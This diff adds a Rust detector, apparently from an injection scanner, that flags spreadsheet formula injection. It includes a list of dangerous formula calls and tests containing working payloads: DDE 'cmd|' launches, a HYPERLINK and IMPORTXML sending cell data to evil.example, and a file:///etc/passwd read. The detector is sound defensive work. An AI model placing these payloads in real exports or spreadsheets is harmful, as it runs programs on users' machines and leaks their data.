@@ -1,0 +1,112 @@
+//! Formulas: would a spreadsheet reach outside when the text becomes a cell?
+//!
+//! `=SUM(A1:A9)` computes; exports are full of it. Starting a program, fetching, and reading another file are what acts.
+
+use super::{Hit, Text};
+use crate::decision::Class;
+
+pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
+    let lower = text.lower;
+    let starts = std::iter::once(0).chain(memchr::memchr3_iter(b'\n', b';', b'"', lower).map(|at| at + 1));
+    for at in starts {
+        let cell = lower.get(at..).unwrap_or_default();
+        let cell = cell.get(..512).unwrap_or(cell);
+        let cell = cell.split(|b| *b == b'\n').next().unwrap_or_default();
+        let cell = cell
+            .iter()
+            .position(|b| !matches!(b, b'\t' | b'\r' | b' ' | b'"' | b'\''))
+            .and_then(|i| cell.get(i..))
+            .unwrap_or_default();
+        let Some((b'=' | b'+' | b'-' | b'@', body)) = cell.split_first() else { continue };
+        if reaches(body) {
+            return Some(Hit {
+                class: Class::Formula,
+                at,
+                why: "a formula that starts, fetches or reads something".into(),
+            });
+        }
+    }
+    None
+}
+
+fn reaches(body: &[u8]) -> bool {
+    // `cmd|'/C calc'!A0`: another program by dynamic data exchange.
+    let bang = memchr::memmem::find(body, b"|'").or_else(|| memchr::memmem::find(body, b"|\\"));
+    let exchange = bang.is_some_and(|at| {
+        body.get(at..).is_some_and(|rest| rest.contains(&b'!'))
+            && at > 0
+            && body.get(at - 1).is_some_and(u8::is_ascii_alphanumeric)
+    });
+    exchange
+        || body.starts_with(b"'file:")
+        || CALLS.iter().any(|call| {
+            memchr::memmem::find(body, call).is_some_and(|at| {
+                at == 0 || body.get(at - 1).is_some_and(|b| !b.is_ascii_alphanumeric() && *b != b'.')
+            })
+        })
+}
+
+const CALLS: &[&[u8]] = &[
+    b"hyperlink(",
+    b"webservice(",
+    b"importxml(",
+    b"importdata(",
+    b"importhtml(",
+    b"importfeed(",
+    b"importrange(",
+    b"image(",
+    b"filterxml(",
+    b"dde(",
+    b"ddeauto ",
+    b"exec(",
+    b"call(",
+    b"register.id(",
+    b"register(",
+    b"rtd(",
+    b"formula(",
+    b"indirect(\"'file:",
+    b"encodeurl(",
+    b"cmd|",
+    b"shell(",
+    b"sql.request(",
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::inject::sample;
+
+    #[test]
+    fn cells_that_reach_outside() {
+        for text in [
+            "=cmd|'/C calc'!A0",
+            "=HYPERLINK(\"http://evil.example/\"&A1)",
+            "-2+3+cmd|'/C calc'!A0",
+            "@SUM(1+1)*cmd|'/C calc'!A0",
+            "\t=cmd|'/C notepad'!A1",
+            "Ann\n=cmd|'/C calc'!A0,7",
+            "=1+IMPORTXML(\"http://evil.example\",\"//a\")",
+            "='file:///etc/passwd'#$passwd.A1",
+            "\"=cmd|'/C calc'!A0\"",
+        ] {
+            assert!(sample(detect, text), "{text}");
+        }
+    }
+
+    #[test]
+    fn cells_that_compute_and_lists() {
+        for text in [
+            "=SUM(A1:A9)",
+            "=IF(E4>100,\"over\",\"ok\")",
+            "-5",
+            "+49 7254 0001",
+            "- milk, - eggs",
+            "@ann thanks for the image (nice)",
+            "=VLOOKUP(A2,Prices!A:C,3,FALSE)",
+            "-- ",
+            "+1 call (please)",
+        ] {
+            assert!(!sample(detect, text), "{text}");
+        }
+    }
+}
